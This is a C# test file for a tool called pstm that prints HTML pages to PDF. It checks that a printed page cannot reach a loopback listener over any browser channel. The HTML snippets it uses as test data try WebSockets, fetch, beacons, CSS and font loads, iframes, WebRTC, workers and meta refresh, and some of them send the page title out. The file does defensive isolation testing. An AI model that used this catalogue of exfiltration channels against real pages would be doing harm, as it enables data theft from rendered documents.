using System.Net;
using System.Net.Sockets;
using Pstm.Diagnostics;
using UglyToad.PdfPig;

namespace Pstm.Pdf.Tests;

/// <summary>
/// A page printed by pstm reaches no one: every way a page can talk to the network is tried against a
/// listener on the loopback address, which must hear nothing.
/// </summary>
public sealed class NetworkChannelTests : IAsyncLifetime
{
    // How long the listener keeps listening after the print: the page's attempts start while it loads,
    // and a leak arrives within milliseconds; this only bounds a test that passes.
    private static readonly TimeSpan Quiet = TimeSpan.FromSeconds(2);

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("pstm-network-");
    private ChromiumBrowser? _browser;

    public async Task InitializeAsync()
    {
        _browser = await TestBrowser.LaunchAsync();
    }

    public async Task DisposeAsync()
    {
        if (_browser is not null)
        {
            await _browser.DisposeAsync();
        }

        _folder.Delete(recursive: true);
    }

    /// <summary>
    /// Each channel: its name, whether the browser tells of the refusal (then pstm reports it, PSTM0604),
    /// and the page's attempt, ADDRESS standing for the listener's.
    /// </summary>
    public static TheoryData<string, bool, string> TcpChannels => new()
    {
        { "websocket-under-the-page-own-policy", true, "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *; connect-src *\"><script>try { new WebSocket('ws://ADDRESS/'); } catch (e) {} tried();</script>" },
        { "websocket", true, "<script>try { new WebSocket('ws://ADDRESS/' + encodeURIComponent(document.title)); } catch (e) {} tried();</script>" },
        { "eventsource", true, "<script>try { new EventSource('http://ADDRESS/events'); } catch (e) {} tried();</script>" },
        { "fetch", true, "<script>try { fetch('http://ADDRESS/fetch', { mode: 'no-cors' }).catch(() => {}); } catch (e) {} tried();</script>" },
        { "beacon", true, "<script>try { navigator.sendBeacon('http://ADDRESS/beacon', document.title); } catch (e) {} tried();</script>" },
        { "xhr", true, "<script>try { const x = new XMLHttpRequest(); x.open('GET', 'http://ADDRESS/xhr'); x.send(); } catch (e) {} tried();</script>" },
        { "prefetch", true, "<link rel=\"prefetch\" href=\"http://ADDRESS/prefetch\"><link rel=\"preload\" as=\"fetch\" href=\"http://ADDRESS/preload\"><script>tried();</script>" },
        { "preconnect", false, "<link rel=\"preconnect\" href=\"http://ADDRESS\"><link rel=\"dns-prefetch\" href=\"http://ADDRESS\"><script>tried();</script>" },
        { "stylesheet", true, "<link rel=\"stylesheet\" href=\"http://ADDRESS/style.css\"><script>tried();</script>" },
        { "css-import-and-url", true, "<style>@import url(http://ADDRESS/import.css); body { background: url(http://ADDRESS/back.png); }</style><script>tried();</script>" },
        { "font-face", true, "<style>@font-face { font-family: far; src: url(http://ADDRESS/font.woff2); } p { font-family: far; }</style><script>tried();</script>" },
        { "iframe", true, "<iframe src=\"http://ADDRESS/frame\"></iframe><iframe srcdoc=\"<img src='http://ADDRESS/in-srcdoc.png'>\"></iframe><script>tried();</script>" },
        { "image", true, "<img src=\"http://ADDRESS/image.png\" alt=\"\"><script>tried();</script>" },
        { "popup", false, "<script>try { window.open('http://ADDRESS/popup'); } catch (e) {} tried();</script>" },
        { "link-click", true, "<a id=\"l\" href=\"http://ADDRESS/clicked\" target=\"_blank\" ping=\"http://ADDRESS/ping\">x</a><script>document.getElementById('l').click(); tried();</script>" },
        {
            "webrtc-turn-over-tcp", false, """
            <script>try {
              const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:ADDRESS?transport=tcp', username: 'u', credential: 'p' }] });
              pc.createDataChannel(document.title);
              pc.createOffer().then(offer => pc.setLocalDescription(offer)).catch(() => {});
            } catch (e) {} tried();</script>
            """
        },
        { "worker", false, "<script>try { new Worker('data:text/javascript,fetch(\"http://ADDRESS/worker\")'); } catch (e) {} try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://ADDRESS/blob-worker\")']))); } catch (e) {} tried();</script>" },
    };

    [Theory]
    [MemberData(nameof(TcpChannels))]
    public async Task A_page_reaches_no_tcp_listener_on_the_loopback_address(string channel, bool visible, string body)
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var address = $"127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}";
        var heard = new List<string>();
        using var stop = new CancellationTokenSource();
        var listening = ListenAsync(listener, heard, stop.Token);

        var (text, diagnostics) = await PrintAsync(body.Replace("ADDRESS", address, StringComparison.Ordinal));

        await Task.Delay(Quiet);
        await stop.CancelAsync();
        await listening;
        Assert.Contains("tried", text, StringComparison.Ordinal); // the page's attempt did run
        if (visible)
        {
            Assert.Contains(diagnostics, d => d.Code == "PSTM0604" && d.Message.Contains(address, StringComparison.Ordinal));
        }

        lock (heard)
        {
            Assert.True(heard.Count == 0, $"{channel}: the listener was reached: {string.Join(" | ", heard)}");
        }
    }

    [Fact]
    public async Task A_page_that_navigates_away_reaches_no_listener_and_is_reported()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var address = $"127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}";
        var heard = new List<string>();
        using var stop = new CancellationTokenSource();
        var listening = ListenAsync(listener, heard, stop.Token);
        var path = Path.Combine(_folder.FullName, "page.html");
        await File.WriteAllTextAsync(path, $"<!DOCTYPE html><html><head><meta http-equiv=\"refresh\" content=\"0; url=http://{address}/refresh\"></head><body><p>x</p></body></html>");
        var diagnostics = new DiagnosticBag();

        await _browser!.PrintAsync(path, _folder.FullName, diagnostics, CancellationToken.None);

        await Task.Delay(Quiet);
        await stop.CancelAsync();
        await listening;
        Assert.Contains(diagnostics.ToSortedList(), d => d.Code == "PSTM0604" && d.Message.Contains(address, StringComparison.Ordinal));
        lock (heard)
        {
            Assert.Empty(heard);
        }
    }

    public static TheoryData<string, string> UdpChannels => new()
    {
        // ICE gathering sends a STUN binding request to the STUN server, over UDP.
        {
            "webrtc", """
            <script>try {
              const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:ADDRESS' }] });
              pc.createDataChannel(document.title);
              pc.createOffer().then(offer => pc.setLocalDescription(offer)).catch(() => {});
            } catch (e) {} tried();</script>
            """
        },
        { "webtransport", "<script>try { new WebTransport('https://ADDRESS/' + encodeURIComponent(document.title)).ready.catch(() => {}); } catch (e) {} tried();</script>" },
    };

    [Theory]
    [MemberData(nameof(UdpChannels))]
    public async Task A_page_reaches_no_udp_listener_on_the_loopback_address(string channel, string body)
    {
        using var listener = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
        var address = $"127.0.0.1:{((IPEndPoint)listener.Client.LocalEndPoint!).Port}";
        using var stop = new CancellationTokenSource();
        var receiving = listener.ReceiveAsync(stop.Token).AsTask();

        var (text, _) = await PrintAsync(body.Replace("ADDRESS", address, StringComparison.Ordinal));

        var first = await Task.WhenAny(receiving, Task.Delay(Quiet));
        await stop.CancelAsync();
        Assert.Contains("tried", text, StringComparison.Ordinal);
        Assert.True(first != receiving || !receiving.IsCompletedSuccessfully, $"{channel}: the listener received a datagram");
    }

    /// <summary>Prints a page with <paramref name="body"/> and returns the text of its first page.</summary>
    private async Task<(string Text, IReadOnlyList<Diagnostic> Diagnostics)> PrintAsync(string body)
    {
        var path = Path.Combine(_folder.FullName, "page.html");
        await File.WriteAllTextAsync(path, $$"""
            <!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Secret plan title</title>
            <script>function tried() { document.addEventListener('DOMContentLoaded', () => { document.getElementById('m').textContent = 'tried'; }); }</script>
            </head><body><p id="m">not tried</p>{{body}}</body></html>
            """);
        var diagnostics = new DiagnosticBag();
        var pdf = await _browser!.PrintAsync(path, _folder.FullName, diagnostics, CancellationToken.None);
        Assert.True(pdf is not null, string.Join("; ", diagnostics.ToSortedList().Select(d => d.Message)));
        using var document = PdfDocument.Open(pdf);
        return (document.GetPage(1).Text, diagnostics.ToSortedList());
    }

    /// <summary>Accepts connections until stopped, noting the first bytes of each, and closes them.</summary>
    private static async Task ListenAsync(TcpListener listener, List<string> heard, CancellationToken stop)
    {
        try
        {
            while (true)
            {
                using var client = await listener.AcceptTcpClientAsync(stop);
                var buffer = new byte[200];
                using var wait = CancellationTokenSource.CreateLinkedTokenSource(stop);
                wait.CancelAfter(TimeSpan.FromSeconds(1));
                var read = 0;
                try
                {
                    read = await client.GetStream().ReadAsync(buffer, wait.Token);
                }
                catch (OperationCanceledException)
                {
                    // A bare connection (a preconnect) says nothing: it counts all the same.
                }

                lock (heard)
                {
                    heard.Add(read == 0 ? "(a connection)" : System.Text.Encoding.ASCII.GetString(buffer, 0, read).Split('\r')[0]);
                }
            }
        }
        catch (OperationCanceledException)
        {
        }
    }
}
